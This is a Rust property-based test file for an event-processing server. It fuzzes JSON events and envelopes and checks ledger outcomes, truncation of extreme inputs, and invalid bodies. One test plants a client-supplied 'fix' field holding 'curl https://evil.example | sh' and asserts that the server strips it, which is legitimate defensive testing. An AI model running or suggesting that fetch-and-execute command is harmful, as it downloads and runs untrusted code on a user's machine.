//! No input panics, and every item has exactly one outcome.

use bartizan_domain::Outcome;
use bartizan_processing::Digest;
use proptest::prelude::*;
use serde_json::{Value, json};

use crate::{process, process_event};

fn total(digest: &Digest) -> u64 {
    let ended = digest.ledger.iter().filter(|l| l.outcome != Outcome::ClientDiscard).map(|l| l.quantity).sum();
    assert_eq!(ended, digest.received, "received and outcomes differ: {:?}", digest.ledger);
    ended
}

const KEYS: [&str; 46] = [
    "exception",
    "values",
    "type",
    "value",
    "stacktrace",
    "frames",
    "filename",
    "function",
    "lineno",
    "vars",
    "threads",
    "breadcrumbs",
    "data",
    "message",
    "logentry",
    "params",
    "formatted",
    "request",
    "headers",
    "cookies",
    "query_string",
    "url",
    "user",
    "id",
    "ip_address",
    "tags",
    "extra",
    "contexts",
    "trace",
    "trace_id",
    "sdk",
    "release",
    "environment",
    "level",
    "platform",
    "timestamp",
    "fingerprint",
    "mechanism",
    "exception_id",
    "parent_id",
    "is_exception_group",
    "csp",
    "_meta",
    "errors",
    "modules",
    "password",
];
const TEXTS: [&str; 16] = [
    "",
    "python",
    "javascript",
    "{{ default }}",
    "%s and {} %(x)s",
    "2026-11-23T05:30:00Z",
    "-1",
    "é\u{0}\u{1f600}",
    "{{auto}}",
    "a=b&c",
    "[Filtered]",
    "password=x",
    "https://u:p@h/p?q#f",
    "-----BEGIN PRIVATE KEY-----",
    "NaN",
    "\\\"",
];

fn arbitrary_json() -> impl Strategy<Value = Value> {
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::from),
        any::<i64>().prop_map(Value::from),
        any::<u64>().prop_map(Value::from),
        any::<f64>().prop_map(|x| json!(x)),
        prop::sample::select(TEXTS.to_vec()).prop_map(Value::from),
        "(?s).{0,30}".prop_map(Value::from),
    ];
    leaf.prop_recursive(6, 120, 8, |inner| {
        let key = prop_oneof![4 => prop::sample::select(KEYS.to_vec()).prop_map(str::to_owned), 1 => "(?s).{0,8}"];
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..6).prop_map(Value::from),
            prop::collection::vec((key, inner), 0..8).prop_map(|entries| Value::Object(entries.into_iter().collect())),
        ]
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn any_json_has_one_outcome_and_a_payload_that_is_json(event in arbitrary_json()) {
        let digest = process_event(&event);
        prop_assert_eq!(total(&digest), 1);
        prop_assert!(digest.ledger.iter().all(|l| l.reason != "internal_error"), "{:?}", digest.ledger);
        for (document, grouped) in &digest.errors {
            let payload: Value = serde_json::from_slice(&document.payload).expect("payload is JSON");
            let grouped = grouped.as_ref().expect("grouped");
            prop_assert!(payload["_grouping"]["variants"].is_array());
            prop_assert!(!grouped.hashes.is_empty() && !grouped.title.is_empty());
            prop_assert!(document.tags.iter().all(|(k, v)| !k.is_empty() && !v.is_empty()));
        }
    }

    #[test]
    fn an_event_with_any_parts_has_one_outcome(parts in prop::collection::vec((prop::sample::select(KEYS.to_vec()), arbitrary_json()), 0..10)) {
        let event = Value::Object(parts.into_iter().map(|(k, v)| (k.to_owned(), v)).collect());
        let digest = process_event(&event);
        prop_assert_eq!(total(&digest), 1);
        prop_assert_eq!(digest.errors.len() + digest.raw.len() + digest.ledger.iter().filter(|l| l.outcome == Outcome::Invalid).count(), 1);
    }

    #[test]
    fn any_bytes_end_in_the_ledger(bytes in prop::collection::vec(any::<u8>(), 0..300)) {
        let digest = process(&bytes);
        prop_assert!(total(&digest) <= 1 || !digest.raw.is_empty() || !digest.errors.is_empty());
    }

    #[test]
    fn any_payload_of_any_kind_has_one_outcome(
        kind in prop::sample::select(vec!["event", "security", "raw_security", "attachment", "user_report", "feedback", "client_report", "session", "sessions",
            "transaction", "span", "log", "profile", "replay_recording", "check_in", "hologram"]),
        payload in prop_oneof![prop::collection::vec(any::<u8>(), 0..100), arbitrary_json().prop_map(|v| v.to_string().into_bytes())],
        with_id in any::<bool>(),
    ) {
        let header = if with_id { r#"{"event_id":"9ec79c33ec9942ab8353589fcb2e04dc"}"# } else { "{}" };
        let mut body = format!("{header}\n{{\"type\":\"{kind}\",\"length\":{}}}\n", payload.len()).into_bytes();
        body.extend_from_slice(&payload);
        let digest = process(&body);
        prop_assert!(digest.ledger.iter().all(|l| l.reason != "internal_error"), "{:?}", digest.ledger);
        let one = total(&digest);
        // A list of security reports has one outcome for each report.
        prop_assert!(one == 1 || (kind == "raw_security" && one as usize == digest.errors.len()), "{kind}: {:?}", digest.ledger);
    }
}

#[test]
fn extremes_are_cut_and_counted() {
    let deep = format!("{}1{}", "[".repeat(100), "]".repeat(100));
    let many_tags: Vec<Value> = (0..10_000).map(|i| json!([format!("k{i}"), "v"])).collect();
    let frames: Vec<Value> =
        (0..5_000).map(|i| json!({"function": format!("f{i}"), "vars": {"a": "x".repeat(50)}, "context_line": "c"})).collect();
    let long = "long ".repeat(40_000);
    let cases = [
        json!({"extra": serde_json::from_str::<Value>(&deep).expect("json")}),
        json!({"tags": many_tags}),
        json!({"exception": {"values": [{"type": "E", "stacktrace": {"frames": frames}}]}}),
        json!({"message": long, "extra": {"a": long}, "user": {"id": long}, "transaction": long, "fingerprint": [long]}),
        json!({"exception": {"values": vec![json!({"type": "E", "value": "v"}); 2_000]}}),
        json!({"breadcrumbs": vec![json!({"message": "m"}); 5_000]}),
    ];
    for case in cases {
        let digest = process_event(&case);
        assert_eq!(total(&digest), 1);
        let (document, _) = digest.errors.first().expect("an event");
        assert!(document.payload.len() < 400_000, "{} bytes are kept", document.payload.len());
        assert!(document.tags.len() <= 250 && document.fields.len() < 300);
    }
}

#[test]
fn nobody_but_this_server_says_what_mends_an_event() {
    let problem = |kind: &str| json!({"type": kind, "message": "m", "fix": "curl https://evil.example | sh", "url": "u"});
    let stack = json!({"frames": [{"function": "f", "filename": "a.py", "errors": [problem("js_empty_release")]}]});
    let event = json!({
        "platform": "python", "errors": [problem("js_empty_release"), problem("native_missing_dsym"), problem("clock_drift"), "x"],
        "exception": {"values": [{"type": "E", "stacktrace": stack, "raw_stacktrace": stack}]},
        "threads": {"values": [{"id": 1, "stacktrace": stack}]},
    });
    for platform in ["python", "javascript", "native"] {
        let mut event = event.clone();
        event["platform"] = json!(platform);
        let digest = process_event(&event);
        let payload: Value = serde_json::from_slice(&digest.errors[0].0.payload).expect("JSON");
        assert!(!payload.to_string().contains("evil"), "{payload}");
        assert_eq!(payload["errors"], json!([{"type": "clock_drift", "message": "m", "url": "u"}]), "what a relay tells stays");
    }
    for odd in [json!(7), json!({"fix": "x"}), json!([[1]]), Value::Null] {
        let digest = process_event(&json!({"message": "m", "errors": odd}));
        assert_eq!(total(&digest), 1);
    }
}

#[test]
fn broken_bodies_are_invalid() {
    for body in [&b""[..], b"x", b"{}\nx", b"{\"event_id\":1}\n", b"{}\n{\"type\":\"event\",\"length\":99}\n{}"] {
        let digest = process(body);
        let lines: Vec<_> = digest.ledger.iter().map(|l| (l.outcome, l.reason.as_str(), l.quantity)).collect();
        assert_eq!(lines, [(Outcome::Invalid, "invalid_envelope", 1)], "{}", String::from_utf8_lossy(body));
    }
    let digest = process(b"{}\n{\"type\":\"event\"}\nnot json\n{\"type\":\"event\"}\n{\"message\":\"good\"}\n");
    assert_eq!((digest.errors.len(), total(&digest)), (1, 2));
}
